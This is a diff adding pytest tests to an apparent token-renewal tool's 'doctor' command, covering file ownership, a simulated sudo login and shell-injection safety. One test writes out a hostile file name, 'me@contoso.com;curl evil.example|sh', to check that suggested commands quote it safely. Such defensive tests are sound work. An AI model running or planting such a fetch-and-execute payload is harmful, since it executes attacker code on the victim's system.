@@ -19,7 +19,7 @@ from lab.smalldisk import SmallDisk
 
 pytestmark = pytest.mark.toolonly
 
-CONFIG, DENIED = 78, 77
+CONFIG, DENIED, NOACCESS = 78, 77, 73
 POSTFIX = "postfix"
 PERSON = 12345
 README_ID = "11111111-2222-3333-4444-555555555555"
@@ -127,6 +127,15 @@ def test_pain_01_a_placeholder_of_the_manual_is_no_id(site):
     assert "id of your application at Microsoft 365" in finding["next"]
     warned = texts(of(findings, "configuration", "warning"))
     assert f'{site.conf}, line 2: tenant is "contoso.com"' in warned
+
+
+def test_pain_01_what_explains_is_no_next_step(site, account):
+    """A sentence's part behind a semicolon may be no order."""
+    site.conf.write_text(f'renewer = "{POSTFIX}"\naccount "{account}" {{\n'
+                         '  provider = "no-such-provider"\n}\n')
+    finding = the_wrong(examined(site, account), "configuration")
+    assert "; it is neither a preset" in finding["text"]
+    assert finding["next"] == f"correct {site.conf}, line 3, and run this again"
 
 
 def test_pain_01_what_counts_is_shown_with_its_line(site, account):
@@ -384,6 +393,16 @@ def test_pain_17_whoever_is_not_root_is_told_what_was_not_tried(
         f"{account}"
 
 
+def _as_sudoer(fresh, home):
+    """A command line before the examination's, and its environment."""
+    users = fresh("etc") / "passwd"
+    users.write_text(Path("/etc/passwd").read_text() +
+                     f"sudoer:x:{PERSON}:{PERSON}::{home}:/bin/sh\n")
+    return {"env": {"SUDO_USER": "sudoer"}, "wrap": [
+        "unshare", "--mount", "--propagation", "private", "sh", "-c",
+        'mount --bind "$1" /etc/passwd && shift && exec "$@"', "sh", users]}
+
+
 def test_pain_17_a_login_as_oneself_is_not_the_systems(
         site, account, fresh):
     """`sudo doctor` after a login without sudo."""
@@ -393,15 +412,46 @@ def test_pain_17_a_login_as_oneself_is_not_the_systems(
     (own / account).write_text("")
     site.accounts.append(account)
     site.configure()
-    users = fresh("etc") / "passwd"
-    users.write_text(Path("/etc/passwd").read_text() +
-                     f"sudoer:x:{PERSON}:{PERSON}::{home}:/bin/sh\n")
-    findings = examined(site, account, env={"SUDO_USER": "sudoer"}, wrap=[
-        "unshare", "--mount", "--propagation", "private", "sh", "-c",
-        'mount --bind "$1" /etc/passwd && shift && exec "$@"', "sh", users])
+    findings = examined(site, account, **_as_sudoer(fresh, home))
     finding = the_wrong(findings, "state")
     assert f"its token is {own}/{account}" in finding["text"]
     assert finding["next"] == f"run, as root: sasl-bearer login {account}"
+
+
+def test_pain_17_a_persons_configuration_becomes_roots(
+        logged_in, account, fresh):
+    """What is advised leaves nobody but root the right to write there."""
+    home = fresh("a person's home")
+    own = home / ".config" / "sasl-bearer.conf"
+    own.parent.mkdir(parents=True)
+    logged_in.conf.rename(own)
+    os.chown(own, PERSON, PERSON)
+    findings = examined(logged_in, **_as_sudoer(fresh, home))
+    finding, = [one for one in of(findings, "configuration", "warning")
+                if str(own) in one["text"]]
+    command = re.fullmatch(r"for a program of the system move it: (.*); for "
+                           r"one of sudoer run this as that user",
+                           finding["next"])
+    assert command, finding
+    run(["sh", "-e", "-c", command[1]], check=True)
+    facts = os.stat(logged_in.conf)
+    assert (facts.st_uid, facts.st_gid, facts.st_mode & 0o7777) \
+        == (0, 0, 0o644)
+    assert not own.exists()
+    assert_healthy(logged_in, account)
+
+
+def test_pain_17_a_configuration_of_somebody_else_is_not_for_root(
+        logged_in, account):
+    os.chown(logged_in.conf, PERSON, PERSON)
+    finding = the_wrong(examined(logged_in, account), "configuration")
+    assert f"{logged_in.conf} belongs to user id {PERSON}" in finding["text"]
+    assert finding["next"] == f"run: chown root:root {logged_in.conf}"
+    for verb in ("status", "token", "refresh", "config", "login"):
+        said = logged_in.tool(verb, account, code=NOACCESS).stderr
+        assert finding["text"] in said
+    heal(finding)
+    assert_healthy(logged_in, account)
 
 
 def test_pain_17_a_full_disk(logged_in, account, fresh):
@@ -529,6 +579,28 @@ def test_pain_17_no_command_is_made_up(logged_in, account):
     assert "Operation not permitted" in finding["text"]
     assert not finding["lines"]
     assert "lsattr" in finding["next"]
+
+
+def test_no_name_of_a_file_becomes_a_command(logged_in):
+    """The renewer may write there, and root copies what is advised."""
+    name = "me@contoso.com;curl evil.example|sh"
+    path = logged_in.state / "tokens" / \
+        "me@contoso.com%3Bcurl%20evil.example%7Csh"
+    path.write_text("no token")
+    shutil.chown(path, POSTFIX, POSTFIX)
+    path.chmod(0o640)
+    finding = the_wrong(examined(logged_in), "state")
+    assert finding["account"] == name
+    assert finding["next"] == f"run: sasl-bearer login '{name}'"
+
+
+def test_a_report_hides_a_name_in_a_command(site):
+    """An apostrophe takes it apart there."""
+    site.accounts.append("mary'ann@contoso.com")
+    site.configure()
+    done = site.tool("doctor", "--report", "mary'ann@contoso.com", code=None)
+    assert "sasl-bearer login " in done.stdout
+    assert "mary" not in done.stdout.lower()
 
 
 @pytest.mark.parametrize("days,grade,part", [
